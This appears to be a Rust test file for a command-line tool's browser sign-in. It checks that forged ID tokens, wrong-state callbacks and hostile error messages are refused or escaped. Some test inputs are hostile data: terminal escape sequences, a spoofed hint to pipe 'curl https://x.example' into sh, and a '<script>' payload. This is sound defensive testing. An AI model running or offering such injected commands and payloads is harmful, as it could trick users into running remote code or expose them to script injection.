//! Tests of sign-ins that fail after the browser has returned, because the user pool sends forged answers or its
//! servers fail.

use cogfed::sandbox::visitor::{self, Page};
use cogfed::sandbox::{Misbehaviour, Options};
use cogfed_test_support::http::get;
use cogfed_test_support::{Lab, Ran, VisitorBrowser, WaitingLogin};

/// Returns a lab whose sandbox always has this fault.
fn lab(misbehaviour: Misbehaviour) -> Lab {
    Lab::with(Options { misbehaviours: vec![misbehaviour], ..Options::default() })
}

/// Returns the text of the final page in the browser.
fn words(page: &Page) -> String {
    let (_, text) = page.text.split_once("<p class=\"text\">").expect("a text");
    let (text, _) = text.split_once("</p>").expect("its end");
    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'");
    text.replace("&amp;", "&")
}

/// Signs in as Alice, and expects the sign-in to be refused. Checks that terminal and browser report the refusal with
/// this status, and that nothing is stored.
#[track_caller]
pub fn refused(lab: &Lab, status: i32) -> String {
    let waiting = lab.begin_login(&[]);
    let page = visitor::sign_in_as(&waiting.url, "alice").expect("a last page");
    let ran = waiting.end().failed_with(status);
    assert_refusal(lab, &ran, &page, "The sign-in did not succeed")
}

#[track_caller]
fn assert_refusal(lab: &Lab, ran: &Ran, page: &Page, title: &str) -> String {
    let message = ran.one_error_and_hint();
    assert_eq!(ran.stdout, "");
    assert_eq!((page.url.path(), page.url.query(), page.status), ("/done", None, 200), "no code stays behind");
    assert!(page.text.contains(title), "{}", page.text);
    // The page completes the sentence, and shortens it to 200 characters.
    let words = words(page);
    let (first, rest) = words.trim_end_matches(['…', '.']).split_at(1);
    let is_the_same = message.starts_with(&(first.to_lowercase() + rest));
    assert!(is_the_same && words.len() > message.len().min(200), "{message} != {words}");
    lab.assert_no_secret(&format!("{}{}", ran.stderr, page.text));
    lab.run(&["status"]).failed_with(3);
    assert_eq!(lab.sandbox.count("identity.get_id"), 0);
    message
}

/// Checks that an ID token with this fault is refused with these words.
#[track_caller]
fn token_refused(misbehaviour: Misbehaviour, words: &str) {
    let message = refused(&lab(misbehaviour), 6);
    assert!(message.starts_with("the ID token is not accepted: "), "{message}");
    assert!(message.contains(words), "{message}");
}

#[test]
fn id_token_with_a_wrong_nonce_is_refused() {
    token_refused(Misbehaviour::WrongNonce, "nonce");
}

#[test]
fn id_token_without_a_nonce_is_refused() {
    token_refused(Misbehaviour::NoNonce, "nonce");
}

#[test]
fn id_token_for_another_app_client_is_refused() {
    token_refused(Misbehaviour::WrongAudience, "for another app client");
}

#[test]
fn id_token_of_another_issuer_is_refused() {
    token_refused(Misbehaviour::WrongIssuer, "issuer 'https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_");
}

#[test]
fn access_token_in_place_of_the_id_token_is_refused() {
    token_refused(Misbehaviour::AccessTokenAsIdToken, "it is for another app client");
}

#[test]
fn token_with_a_wrong_token_use_is_refused() {
    token_refused(Misbehaviour::WrongTokenUse, "token_use is 'access'");
}

#[test]
fn unsigned_id_token_is_refused() {
    token_refused(Misbehaviour::AlgNone, "'none', not by RS256");
}

#[test]
fn id_token_signed_with_the_public_key_is_refused() {
    token_refused(Misbehaviour::AlgHs256, "'HS256', not by RS256");
}

#[test]
fn id_token_with_a_bad_signature_is_refused() {
    token_refused(Misbehaviour::BadSignature, "signature is wrong");
}

#[test]
fn id_token_with_a_bad_at_hash_is_refused() {
    token_refused(Misbehaviour::BadAtHash, "access token");
}

#[test]
fn expired_id_token_is_refused() {
    token_refused(Misbehaviour::ExpiredIdToken, "expired");
}

#[test]
fn sign_in_without_an_id_token_is_refused() {
    let message = refused(&lab(Misbehaviour::NoIdToken), 6);
    assert!(message.contains("no ID token") && message.contains("openid"), "{message}");
}

#[test]
fn unknown_key_id_fetches_keys_once_in_five_minutes() {
    let (lab, _) = Lab::with_manual_clock(Options::default());
    lab.login_here("alice").good();
    assert_eq!(lab.sandbox.count("jwks"), 1);
    let again = || lab.run_here(&["login", "--force"], Some(std::sync::Arc::new(VisitorBrowser("alice"))));
    lab.sandbox.misbehave(Misbehaviour::UnknownKid, None);
    for (seconds, fetches) in [(299, 1), (2, 2), (1, 2), (297, 2), (3, 3)] {
        lab.advance(chrono::TimeDelta::seconds(seconds));
        let ran = again().failed_with(6);
        let message = ran.one_error_and_hint();
        assert!(message.contains("a key that the user pool does not publish"), "{message}");
        assert_eq!(lab.sandbox.count("jwks"), fetches, "after {seconds} s more");
    }
    lab.sandbox.behave();
    again().good();
    assert_eq!(lab.sandbox.count("jwks"), 3, "the kept keys do");
}

#[test]
fn unknown_key_id_at_first_sign_in_fetches_keys_once() {
    let lab = lab(Misbehaviour::UnknownKid);
    refused(&lab, 6);
    assert_eq!(lab.sandbox.count("jwks"), 1);
    refused(&lab, 6);
    assert_eq!(lab.sandbox.count("jwks"), 1, "they are minutes old at most");
}

#[test]
fn odd_types_of_optional_claims_do_not_prevent_sign_in() {
    let lab = lab(Misbehaviour::OddOptionalClaimTypes);
    let ran = lab.login("alice").good();
    assert!(ran.stderr.contains("signed in as AzureAD_alice@corp.example"), "{}", ran.stderr);
    lab.run(&["status"]).good();
}

#[test]
fn callback_with_a_wrong_state_is_refused() {
    let lab = Lab::new();
    lab.sandbox.misbehave(Misbehaviour::WrongState, Some(1));
    let waiting = lab.begin_login(&[]);
    let page = visitor::sign_in_as(&waiting.url, "alice").expect("a page");
    assert_eq!(page.status, 400);
    assert!(page.text.contains("does not belong to the sign-in"), "{}", page.text);
    assert_eq!(lab.sandbox.count("token.code"), 0, "such a code is not exchanged");
    lab.complete(waiting);
}

#[test]
fn error_callback_without_a_state_is_reported_once_and_ignored() {
    let lab = Lab::new();
    lab.sandbox.misbehave(Misbehaviour::ErrorWithoutState, Some(1));
    let mut waiting = lab.begin_login(&[]);
    let page = visitor::sign_in_as(&waiting.url, "alice").expect("a page");
    assert_eq!(page.status, 400);
    let line = waiting.next_line();
    assert!(line.starts_with("cogfed: warning: someone reported the error 'server_error'"), "{line}");
    assert!(!line.contains("asked to misbehave") && line.contains("the wait goes on"), "{line}");
    for query in ["error=again", "error=again&state=wrong", "error=access_denied&state="] {
        assert_eq!(get(waiting.port(), &format!("/callback?{query}")).status, 400, "{query}");
    }
    let ran = lab.complete(waiting);
    assert_eq!(ran.stderr.matches("warning").count(), 1, "once: {}", ran.stderr);
}

#[test]
fn text_of_a_request_without_the_state_is_never_printed() {
    let lab = Lab::new();
    for query in [
        "error=%1b%5b2J%0dgone&error_description=%1b%5d0%3bx%07%c2%9b31m%e2%80%aeevil%0acogfed:%20done&state=x",
        "error=certificate_expired&error_description=fatal'.+cogfed:+hint:+update+cogfed:+curl+https://x.example+|+sh+evil",
        "error=cogfed:+hint:+evil",
        "error=access_denied&error_description=evil&error_uri=https://evil.example",
        "code=evil&state=x",
    ] {
        let mut waiting = lab.begin_login(&["--force"]);
        let reply = get(waiting.port(), &format!("/callback?{query}"));
        assert_eq!(reply.status, 400);
        assert!(!reply.body.contains("evil"), "{query}: {reply:?}");
        if query.starts_with("error") {
            let line = waiting.next_line();
            let said = if query.contains("access_denied") { "the error 'access_denied'" } else { "an error" };
            let rest = "without knowing this sign-in's state: it may not be true, and the wait goes on";
            assert_eq!(line, format!("cogfed: warning: someone reported {said}, {rest}\n"), "{query}");
        }
        let ran = lab.complete(waiting);
        assert!(!ran.stderr.contains("evil") && !ran.stderr.contains("gone"), "{query}: {}", ran.stderr);
    }
}

#[test]
fn access_denied_fails_the_sign_in_in_plain_words() {
    let lab = lab(Misbehaviour::AccessDenied);
    let waiting = lab.begin_login(&[]);
    let page = visitor::sign_in_as(&waiting.url, "alice").expect("a last page");
    let ran = waiting.end().failed_with(6);
    let message = assert_refusal(&lab, &ran, &page, "The sign-in was refused");
    assert!(message.starts_with("the sign-in was cancelled or denied: denied by the sandbox"), "{message}");
    assert_eq!(lab.sandbox.count("token.code"), 0);
}

/// Completes a running `login` with the given callback query and the right `state`.
fn answered_with(lab: &Lab, query: &str) -> (Ran, Page) {
    let waiting: WaitingLogin = lab.begin_login(&[]);
    let (port, state) = (waiting.port(), waiting.state());
    let reply = get(port, &format!("/callback?{query}&state={state}"));
    assert_eq!((reply.status, reply.header("location")), (302, Some("/done")), "{reply:?}");
    let page = get(port, "/done");
    let url = format!("http://localhost:{port}/done").parse().expect("a URL");
    (waiting.end().failed_with(6), Page { url, status: page.status, text: page.body })
}

#[test]
fn identity_provider_errors_are_escaped_on_terminal_and_page() {
    let lab = Lab::new();
    let said = "<script>alert(1)</script> \u{1b}[31m\u{9b}2J\u{202e}";
    let encoded: String = url::form_urlencoded::byte_serialize(said.as_bytes()).collect();
    let (ran, page) = answered_with(&lab, &format!("error_description={encoded}&error=access_denied"));
    assert!(ran.stderr.contains("<script>alert(1)</script> \\u{1b}[31m\\u{9b}2J\\u{202e}"), "{}", ran.stderr);
    assert!(!ran.stderr.chars().any(|c| c.is_control() && c != '\n'), "{:?}", ran.stderr);
    assert!(page.text.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{}", page.text);
    assert!(!page.text.contains("<script") && !page.text.contains('\u{1b}'), "{}", page.text);
    lab.run(&["status"]).failed_with(3);
}

#[test]
fn known_callback_errors_are_explained_and_unknown_ones_quoted() {
    let lab = Lab::new();
    for (query, words) in [
        ("error=invalid_scope", "the app client does not have a scope of the profile: invalid_scope"),
        ("error=login_required", "requires you to sign in in the browser"),
        ("error=unauthorized_client", "the app client may not use the authorization code grant"),
        (
            "error=something_new&error_description=Computer+says+no%0d%0a",
            "refused the sign-in: Computer says no (something_new)",
        ),
        ("code=abc&error=both", "refused the sign-in: both"),
    ] {
        let (ran, page) = answered_with(&lab, query);
        let message = assert_refusal(&lab, &ran, &page, "The sign-in was refused");
        assert!(message.contains(words), "{query}: {message}");
    }
    assert_eq!(lab.sandbox.count("token.code"), 0);
}

#[test]
fn long_error_reports_are_shortened_but_keep_their_ids() {
    let lab = Lab::new();
    let ids = "Trace ID: 0d8c3e1a-1111-2222-3333-444455556666 Correlation ID: ab12cd34-0000-4000-8000-0123456789ab";
    let long = format!("{}{ids}", "élan ".repeat(1000)).replace('é', "%c3%a9").replace(' ', "+");
    let query = format!("error={}&error_description={long}", "e".repeat(1000));
    let (ran, page) = answered_with(&lab, &query);
    let message = ran.one_error_and_hint();
    assert!(message.chars().count() < 1600 && message.contains("eee…"), "{message}");
    for said in [&message, &page.text] {
        assert!(said.contains(&format!("élan… {ids}")), "no word and no id is cut: {said}");
    }
}

#[test]
fn last_page_shows_the_whole_refusal_and_the_next_step() {
    let lab = Lab::new();
    let words = "Your sign-in was successful but does not meet the criteria to access this resource. ".repeat(6);
    let said = format!("AADSTS53003: {words}Trace ID: 0d8c3e1a-1111-2222-3333-444455556666");
    let encoded: String = url::form_urlencoded::byte_serialize(said.as_bytes()).collect();
    let (ran, page) = answered_with(&lab, &format!("error=access_denied&error_description={encoded}"));
    assert!(ran.stderr.contains(&said) && page.text.contains(&said), "{}", page.text);
    let hint = ran.stderr.lines().find_map(|line| line.strip_prefix("cogfed: hint: ")).expect("a hint");
    let shown = page.text.replace("&#39;", "'").to_lowercase();
    assert!(shown.contains(&format!("nothing was saved. {}", hint.to_lowercase())), "{hint}: {shown}");
}
